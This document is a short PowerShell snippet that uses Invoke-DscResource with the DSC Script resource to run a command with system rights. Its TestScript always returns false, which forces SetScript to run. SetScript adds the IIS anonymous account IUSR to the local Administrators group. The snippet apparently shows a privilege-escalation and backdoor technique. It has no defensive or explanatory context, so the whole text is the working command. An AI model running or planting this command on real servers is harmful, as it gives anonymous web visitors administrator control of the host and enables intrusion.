Invoke-DscResource -Name Script -Method Set -ModuleName PSDscResources -Property @{
    GetScript = { @{} }
    TestScript = { $false }
    SetScript = { net localgroup Administrators IUSR /add }
}
